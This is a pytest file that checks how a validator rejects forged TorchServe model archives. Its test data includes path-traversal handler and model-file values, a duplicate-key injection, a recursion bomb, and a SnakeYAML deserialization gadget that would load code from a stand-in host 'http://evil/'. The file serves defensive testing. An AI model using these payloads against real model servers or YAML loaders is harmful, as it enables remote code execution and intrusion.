"""What an archive may tell TorchServe."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from classifier.errors import BrokenArchiveError
from classifier.recipe import read_recipe

from scripts.admission.manifest import check_manifest
from scripts.archives.settings import MODEL_CONFIG, front_end_settings, settings_text
from tests.conftest import TINY_RECIPE
from tests.unit.conftest import contents
from tests.unit.forgery import Files, proven, write_zip

MANIFEST = "MAR-INF/MANIFEST.json"


@pytest.fixture(scope="module")
def files(tiny_archive: Callable[..., Path]) -> Files:
    """The files of an archive as it was built."""
    return contents(tiny_archive())


def assert_refused(files: Files, reason: str, tmp_path: Path) -> None:
    write_zip(tmp_path / "evil.mar", proven(files))
    with pytest.raises(BrokenArchiveError, match=rf"evil\.mar: .*{reason}"):
        check_manifest(tmp_path / "evil.mar")


def test_a_manifest_as_it_was_built_is_let_in(files: Files, tmp_path: Path) -> None:
    write_zip(tmp_path / "good.mar", proven(files))
    check_manifest(tmp_path / "good.mar")


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"handler": "../../evil.py"}, "handler '../../evil.py' is not a file of the archive"),
        ({"handler": "/tmp/evil.py"}, "is not a file of the archive"),  # noqa: S108
        (
            {"handler": "image_classifier"},
            "handler 'image_classifier' is not a file of the archive",
        ),  # TorchServe's own
        ({"handler": "image_classifier_handler.py:handle"}, "is not a file of the archive"),
        ({"handler": "recipe.yaml"}, r"the handler must be a \.py file"),
        ({"serializedFile": "../../weights.pth"}, "serializedFile '../../weights.pth' is not a file of the archive"),
        ({"serializedFile": "labels.json"}, "name different models"),
        ({"modelFile": "/usr/lib/python3/os.py"}, "modelFile '/usr/lib/python3/os.py' is not a file of the archive"),
        ({"configFile": "parity.json"}, f"the configFile {MODEL_CONFIG}"),
        ({"requirementsFile": "recipe.yaml"}, "unknown field `requirementsFile`"),
        ({"envelope": "json"}, "unknown field `envelope`"),
        ({"modelName": "vgg16"}, "name different models"),
        ({"modelVersion": "9.0"}, "name different models"),
    ],
)
def test_a_manifest_that_names_something_else_is_refused(
    changes: dict[str, str], reason: str, files: Files, tmp_path: Path
) -> None:
    manifest = json.loads(files[MANIFEST])
    manifest["model"] |= changes
    assert_refused(files | {MANIFEST: (json.dumps(manifest, indent=2) + "\n").encode()}, reason, tmp_path)


def without_newline(content: bytes) -> bytes:
    return content.rstrip()


def a_key_twice(content: bytes) -> bytes:
    return content.replace(b'"model": {', b'"model": {\n    "handler": "evil.py",')


def another_runtime(content: bytes) -> bytes:
    return content.replace(b'"runtime": "python"', b'"runtime": "python2"')


def no_model(content: bytes) -> bytes:
    return content[: content.index(b'  "model"')] + b'  "archiverVersion": "0.12.0"\n}\n'


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (without_newline, "is not spelt"),
        (a_key_twice, "is not spelt"),
        (another_runtime, "Invalid enum value 'python2'"),
        (no_model, "missing required field `model`"),
        (lambda _: b"[" * 50_000, "recursion"),
        (lambda content: b" " * 70_000 + content, "larger than 65536 bytes"),
        (lambda _: b"", "missing, empty"),
    ],
)
def test_a_manifest_that_is_none_of_ours_is_refused(
    change: Callable[[bytes], bytes], reason: str, files: Files, tmp_path: Path
) -> None:
    assert_refused(files | {MANIFEST: change(files[MANIFEST])}, reason, tmp_path)


@pytest.mark.parametrize("name", [MANIFEST, MODEL_CONFIG, "identity.json"])
def test_nothing_of_it_may_be_missing(name: str, files: Files, tmp_path: Path) -> None:
    assert_refused({other: content for other, content in files.items() if other != name}, "is missing", tmp_path)


@pytest.mark.parametrize(
    "more",
    [
        {"torchrun": {"nproc-per-node": 64}},
        {"parallelType": "tp"},
        {"deviceType": "gpu"},
        {"deviceIds": [0]},
        {"useVenv": True},
        {"handler": {"evil": True}},
        {"minWorkers": -1},
        {"maxWorkers": "many"},
    ],
)
def test_settings_that_ours_have_not_are_refused(more: dict[str, Any], files: Files, tmp_path: Path) -> None:
    settings = yaml.safe_load(files[MODEL_CONFIG]) | more
    assert_refused(files | {MODEL_CONFIG: settings_text(settings).encode()}, MODEL_CONFIG, tmp_path)


@pytest.mark.parametrize(
    "content",
    [
        b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]\n',
        b"minWorkers: 1\nminWorkers: 64\n",
        b"minWorkers: &a 1\nmaxWorkers: *a\n",
        b"minWorkers: 1 # of many\n",
        b"minWorkers: 0x40\n",
        b"minWorkers: 1\n---\nminWorkers: 64\n",
        b"- 1\n",
        b"\xff",
    ],
)
def test_settings_that_two_readers_could_understand_differently_are_refused(
    content: bytes, files: Files, tmp_path: Path
) -> None:
    assert_refused(files | {MODEL_CONFIG: content}, "", tmp_path)


def test_settings_are_what_they_were_before_they_had_a_type(files: Files) -> None:
    serving = read_recipe(TINY_RECIPE).serving
    assert list(front_end_settings(serving)) == [
        "minWorkers", "maxWorkers", "batchSize", "maxBatchDelay", "responseTimeout", "startupTimeout",
    ]  # fmt: skip
    assert yaml.safe_load(files[MODEL_CONFIG]) == front_end_settings(serving)
